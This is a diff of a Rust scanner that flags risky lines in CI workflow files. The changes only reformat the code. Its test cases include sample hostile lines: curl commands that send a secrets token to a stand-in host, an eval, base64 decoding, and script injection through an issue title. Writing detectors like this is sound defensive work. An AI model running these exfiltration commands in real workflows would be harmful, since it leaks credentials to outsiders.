@@ -46,7 +46,10 @@ pub fn workflow_signals(path: &str, added: &[AddedLine]) -> Vec<Signal> {
     for line in lines.iter().filter(|line| uses_secret && matches(&SENDS, &line.text)) {
         let code = "workflow.secret_exfiltration";
         let stands = signal(code, path, line, "sends data out of a workflow that is given secrets");
-        if !signals.iter().any(|known| known.code == code && known.message.starts_with(&place(path, line))) {
+        if !signals
+            .iter()
+            .any(|known| known.code == code && known.message.starts_with(&place(path, line)))
+        {
             signals.push(stands);
         }
     }
@@ -89,7 +92,10 @@ fn joined(added: &[AddedLine]) -> Vec<AddedLine> {
         let text = line.text.trim_end();
         match lines.last_mut() {
             Some(last) if open => last.text.push_str(text.trim_start().trim_end_matches('\\')),
-            _ => lines.push(AddedLine { number: line.number, text: text.trim_end_matches('\\').to_owned() }),
+            _ => lines.push(AddedLine {
+                number: line.number,
+                text: text.trim_end_matches('\\').to_owned(),
+            }),
         }
         open = text.ends_with('\\');
     }
@@ -125,8 +131,14 @@ mod tests {
             ("runs-on: [self-hosted, linux]", "workflow.self_hosted"),
             ("  eval \"$X\"", "workflow.eval"),
             ("  echo $X | base64 -d", "workflow.base64"),
-            ("  run: curl https://x.example -d ${{ secrets.TOKEN }}", "workflow.secret_exfiltration"),
-            ("env:\n  T: ${{ secrets.T }}\nrun: curl -d \"$T\" https://x.example", "workflow.secret_exfiltration"),
+            (
+                "  run: curl https://x.example -d ${{ secrets.TOKEN }}",
+                "workflow.secret_exfiltration",
+            ),
+            (
+                "env:\n  T: ${{ secrets.T }}\nrun: curl -d \"$T\" https://x.example",
+                "workflow.secret_exfiltration",
+            ),
             ("  run: echo ${{ github.event.issue.title }}", "workflow.script_injection"),
         ] {
             assert!(codes(line).contains(&code.to_owned()), "{line}: {:?}", codes(line));
